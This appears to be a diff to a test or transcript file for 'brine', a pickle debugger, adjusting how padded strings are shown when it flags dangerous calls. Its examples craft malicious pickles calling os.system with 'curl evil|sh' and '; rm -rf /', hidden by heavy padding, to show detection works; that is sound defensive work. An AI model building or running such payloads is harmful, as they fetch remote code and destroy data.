@@ -273,24 +273,24 @@ $ printf 'X\372\000\000\000%0250d22\207.' 0 | brine debug --batch -e 'goto end' 
 ; Padding hides nothing of what is called: blanks are counted, and of what is long both ends are seen.
 $ python3 -c "open('blanks.pkl','wb').write(b'cos\nsystem\nV' + b' ' * 3000 + b'curl evil|sh\n\x85R.')" && brine debug --batch -e danger -e 'danger' -e explain -e 'info calls' blanks.pkl
 0x0000 #0 GLOBAL   would IMPORT os.system   !! DANGEROUS: process: runs a shell command
-0x0bd2 #3 REDUCE   would CALL os.system('… 3000 blanks …curl evil|sh')   !! DANGEROUS: process: runs a shell command
-✖ Here Python would call os.system('… 3000 blanks …curl evil|sh')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('… 3000 blanks …curl evil|sh')
+0x0bd2 #3 REDUCE   would CALL os.system('…3000 blanks…curl evil|sh')   !! DANGEROUS: process: runs a shell command
+✖ Here Python would call os.system('…3000 blanks…curl evil|sh')
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('…3000 blanks…curl evil|sh')
 dangerous (process): os.system runs a shell command  denied-call
-stack  … os.system │ ('… 3000 blanks …curl evil|sh',)  →  … os.system('… 3000 blanks …curl evil|sh')
+stack  … os.system │ ('…3000 blanks…curl evil|sh',)  →  … os.system('…3000 blanks…curl evil|sh')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x0000
-▶✖ os.system('… 3000 blanks …curl evil|sh')  now at 0x0bd2
+▶✖ os.system('…3000 blanks…curl evil|sh')  now at 0x0bd2
 
 $ python3 -c "open('pad.pkl','wb').write(b'cos\nsystem\nV' + b'x' * 100000 + b'; rm -rf /\n\x85R.')" && brine debug --batch -e 'set print-limit 120' -e 'goto #3' -e explain -e 'info calls' -e 'print event.args' pad.pkl
-0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
-✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
+✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 dangerous (process): os.system runs a shell command  denied-call
-stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99811 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99805 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99804…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99798…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x00000
-▶✖ os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')  now at 0x186b8
+▶✖ os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')  now at 0x186b8
 ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…
   tuple, made by #2 TUPLE1 at 0x186b7
 
